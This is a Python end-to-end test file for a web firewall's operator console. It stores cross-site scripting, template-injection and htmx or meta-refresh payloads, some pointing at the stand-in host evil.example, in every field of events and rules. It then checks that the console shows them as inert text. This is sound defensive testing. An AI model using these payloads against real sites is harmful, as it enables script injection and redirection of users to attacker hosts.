"""Attacks of every class, stored in every field of events: the console shows them, and they do nothing."""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, expect

from e2e.operator import PASSWORD, Operator
from framewall.console.catalogue import shipped
from framewall.control import Control, socket_path
from framewall.events import open_sink
from framewall.model import Direction, Event, Finding, Said
from support.events import event
from support.framewall import Framewall
from support.running import Running

#: What is aimed at pages like these: out of attributes, scripts, templates and styles.
AIMED = (
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</textarea></pre></title></style><svg onload=alert(1)>",
    "<a hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:load=alert(1) data-hx-get=/sign-out hx-trigger=load>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/a.css>",
    "{{7*7}}{% raw %}<script>alert(1)</script>{% endraw %}",
    "javascript:alert(1)",
    "data: hit\n\nevent: hit\ndata: <img src=x onerror=alert(1)>\n\n",
    "\u202e<script>alert(1)</script>\u2066\u200b\x00\x1b]0;x\x07",
)


def hostile(number: int, text: str) -> Event:
    """An event with the text wherever an event can have text."""
    finding = Finding(text, text, text, (text, "json", text), text, 5)
    said = (Said(1_700_000_000.0, Direction.CLIENT, text, 5, text),)
    headers = (f"{name}: {text}" for name in ("Host", text, "Framewall-Message", "Framewall-Packet"))
    request = "\n".join([f"POST {text} WEBSOCKET/13", *headers, "", text])
    return replace(
        event(number), node=text, route=text, attacks=(text, "xss"), client_ip=text, session=text, transport=text,
        path=text, framework=text, event=text, findings=(finding,), request=request, before=said, after=said,
    )  # fmt: skip


def corpus() -> list[str]:
    """What is aimed at pages one by one; the examples of all rules, some lines at a time."""
    examples: dict[str, list[str]] = {}
    for rule in shipped().rules:
        examples.setdefault(rule.attack, []).extend(rule.finds)
    scripts = examples.pop("xss")
    pieces = ["\n".join(scripts[start : start + 8]) for start in range(0, len(scripts), 8)]
    return [*AIMED, *pieces, *("\n".join(texts) for texts in examples.values())]


@pytest.fixture(scope="module")
def console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    folder = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:{folder / 'events.db'}"
    texts = corpus()
    assert len(texts) > 30
    sink = open_sink(url)
    for number, text in enumerate(texts):
        assert sink.put(hostile(number, text))
    assert sink.close().written == len(texts)
    command = [sys.executable, "-m", "framewall", "console", "--events", url, "--listen", "127.0.0.1:0"]
    with Running(command, env={"FRAMEWALL_CONSOLE_PASSWORD": PASSWORD}) as running:
        yield running


def test_nothing_in_stored_attacks_comes_alive(console: Running, chromium: Browser) -> None:
    operator = Operator.arrives(chromium, console.wait_for(r"console at (\S+)").group(1))
    page = operator.goes("/attacks?show=hits")
    texts = corpus()
    while page.locator("tr[data-row]").count() < len(texts):
        seen = page.locator("tr[data-row]").count()
        page.keyboard.press("End")
        expect(page.locator("tr[data-row]")).not_to_have_count(seen)
    expect(page.locator("tr[data-row]")).to_have_count(len(texts))
    for path in (
        "/?range=90d&by=route",
        "/attacks",
        "/attacks?show=hits&q=" + quote('"onerror"'),
        "/rules",
        "/playground",
    ):
        operator.goes(path)
        page.wait_for_timeout(50)
    for number in range(len(texts)):
        operator.goes(f"/hits/{number}")
        assert (
            page.locator(
                "main script, main img, main iframe, main style, main link, main base, main meta"
            ).count()
            == 0
        )
    for number in range(len(AIMED)):
        operator.goes(f"/playground?hit={number}")
        expect(page.locator("#judged .judged")).to_be_visible()
    assert operator.happened == []


def test_a_payload_that_is_searched_for_stays_text(console: Running, chromium: Browser) -> None:
    operator = Operator.arrives(chromium, console.wait_for(r"console at (\S+)").group(1))
    for text in AIMED:
        operator.goes("/attacks?q=" + quote(text))
        operator.goes("/rules?find=" + quote(text))
    assert operator.happened == []


def hostile_rule(number: int, text: str) -> dict[str, object]:
    """A rule with the text wherever a rule can have text."""
    return {
        "id": f"{' '.join(text.split())}{number}", "attack": "xss", "score": 0,
        "literals": [f"{text}never{number}"], "paths": [text], "references": [text, f"CWE-79 {text}"],
        "examples": {"pass": [text]},
    }  # fmt: skip


def test_rules_of_ones_own_do_nothing_on_the_pages_that_show_them(tmp_path: Path, chromium: Browser) -> None:
    folder = tmp_path / AIMED[1].replace("/", "")
    folder.mkdir()
    (folder / "rules.json").write_text(
        json.dumps([hostile_rule(number, text) for number, text in enumerate(AIMED)])
    )
    (tmp_path / "framewall.toml").write_text(
        f'upstream = "http://127.0.0.1:9"\nconsole = "127.0.0.1:0"\nrules = {json.dumps(str(folder))}\n'
    )
    with Framewall(
        "http://127.0.0.1:9", tmp_path, "--config", str(tmp_path / "framewall.toml"),
        env={"FRAMEWALL_CONSOLE_PASSWORD": PASSWORD},
    ) as node:  # fmt: skip
        operator = Operator.arrives(chromium, node.wait_for(r"console at (\S+)").group(1))
        place = socket_path([node.events_url])
        assert place
        control = Control(place)
        gone = str(hostile_rule(0, AIMED[0])["id"])
        assert control.remove_rule(gone, by=AIMED[3], reason=AIMED[1])
        control.set_rule(str(hostile_rule(1, AIMED[1])["id"]), False, by=AIMED[3], reason=AIMED[1])
        control.put_rules(
            f"[[rule]]\nid = 'own.word'\nattack = 'xss'\nscore = 1\npattern = 'word'\n"
            f"references = [{json.dumps(AIMED[3])}]\n# {AIMED[1]}\n",
            by=AIMED[1],
            reason=AIMED[4],
        )
        control.add_exception(rule=str(hostile_rule(2, AIMED[2])["id"]), by=AIMED[1], reason=AIMED[6])
        page = operator.goes("/rules")
        links = [link.get_attribute("href") or "" for link in page.locator("#own [data-open]").all()]
        assert len(links) == len(AIMED)
        edits = [f"/rules/edit?rule={link.removeprefix('/rules/')}" for link in links]
        for path in (*links, *edits[::4], f"/rules/edit?rule={quote(gone)}", "/exceptions", "/audit"):
            operator.goes(path)
            expect(page.locator("main h1").first).to_be_visible()
            assert (
                page.locator("main script, main img, main iframe, main style, main link, main base").count()
                == 0
            )
        assert operator.happened == []
